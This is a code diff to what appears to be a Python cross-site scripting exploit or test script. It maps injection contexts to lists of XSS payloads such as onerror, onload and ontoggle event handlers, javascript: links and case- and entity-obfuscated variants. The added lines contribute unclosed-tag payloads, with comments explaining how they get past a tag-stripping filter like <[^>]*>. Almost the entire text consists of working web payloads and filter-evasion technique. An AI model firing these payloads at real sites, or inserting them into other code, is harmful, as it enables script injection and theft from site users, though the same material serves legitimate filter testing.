@@ -147,6 +147,10 @@ STEPS: dict[str, Callable[[], None]] = {
                                       (f"<IMG SRC=x OnErRoR={m}()>", "none"),
                                       (f"<details open ontoggle={m}()>", "none"),
                                       (f"&lt;img src=x onerror={m}()&gt;", "none"),
+                                      # tags left open (no '>'): the page's own markup closes them, past
+                                      # a stripper of complete tags such as <[^>]*>
+                                      (f"<img src=x onerror={m}()//", "none"), ("soup", f"<svg onload={m}() "),
+                                      (f"soup <svg/onload={m}()", ""), ("soup", f"<img src=x onerror={m}()//"),
                                       *long_values(f"<svg/onload={m}()>", f"<img src=x onerror={m}()>"),
                                       *multiline(f"<img src=x onerror={m}()>")]),
     "attribute": xss_exploit(lambda m: [(f'x" onmouseover="{m}()" autofocus onfocus="{m}()', "none"),
@@ -154,7 +158,9 @@ STEPS: dict[str, Callable[[], None]] = {
                                         (f"x onmouseover={m}() autofocus onfocus={m}()", "none")]),
     "jsurl": xss_exploit(lambda m: [(f'"><a href="javascript:{m}()">go</a>', "none"),
                                     (f"'><a href=javascript:{m}()>go</a>", "none"),
-                                    (f"<a href=javascript:{m}()>go</a>", "")]),
+                                    (f"<a href=javascript:{m}()>go</a>", ""),
+                                    # a tag left open (no '>'), closed by the page's own markup
+                                    (f"<a href=javascript:{m}() ", "none"), ("soup", f"<a href=javascript:{m}()//")]),
 }
 
 if __name__ == "__main__":
